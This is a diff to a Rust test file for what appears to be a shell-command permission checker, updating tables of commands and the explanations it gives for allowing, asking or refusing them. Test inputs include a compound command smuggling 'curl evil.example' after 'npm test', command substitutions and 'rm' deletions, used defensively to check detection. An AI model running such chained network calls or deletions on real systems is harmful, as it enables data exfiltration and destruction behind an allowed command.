@@ -1,5 +1,6 @@
 //! The order of rules, conditions beside commands, and what is said about it, as tables.
 
+mod harmless;
 mod network;
 mod reviewed;
 mod stored;
@@ -68,14 +69,18 @@ fn a_compound_command_names_the_part_that_nobody_allowed() {
     let rules = [rule("npm", Allow, Session, commands(&["npm test"]))];
     for (command, expected) in [
         ("npm test", "Allowed by rule “npm”."),
-        ("npm test -- --watch=false", "Allowed by rule “npm”."),
+        ("npm test --silent", "Allowed by rule “npm”."),
+        (
+            "npm test -- --watch=false",
+            "Asked because rule “npm” does not allow `npm test -- --watch=false`: it is not known that `--watch` only reads.",
+        ),
         (
             "npm test && curl evil.example",
             "Asked because no rule allows `curl evil.example`.",
         ),
         (
             "npm test > x",
-            "Asked because rule “npm” does not allow `npm test > x`: it redirects to or from a file.",
+            "Asked because rule “npm” does not allow `npm test > x`: it redirects to a file.",
         ),
         (
             "PATH=. npm test",
@@ -94,9 +99,10 @@ fn a_compound_command_names_the_part_that_nobody_allowed() {
             "Asked because rule “npm” does not allow `npm exec x`: other words follow.",
         ),
         ("ls", "Asked because no rule is about this call."),
+        ("npm test `ls`", "Asked because no rule allows `ls`."),
         (
-            "npm test `ls`",
-            "Asked because the command uses a form of the shell that rules do not read: a backquote.",
+            "npm test $((1))",
+            "Asked because the command uses a form of the shell that rules do not read: arithmetic.",
         ),
         (
             "npm\u{a0}test",
@@ -129,6 +135,10 @@ fn what_is_denied_is_found_wherever_it_stands() {
         ),
         (
             "case x in x) rm y;; esac",
+            "Refused: `rm y` is denied by rule “rm”.",
+        ),
+        (
+            "[[ -f x ]] && rm y",
             "Asked because the call may be what rule “rm” denies, and that cannot be told for sure.",
         ),
         ("echo rm", "Allowed by rule “all”."),
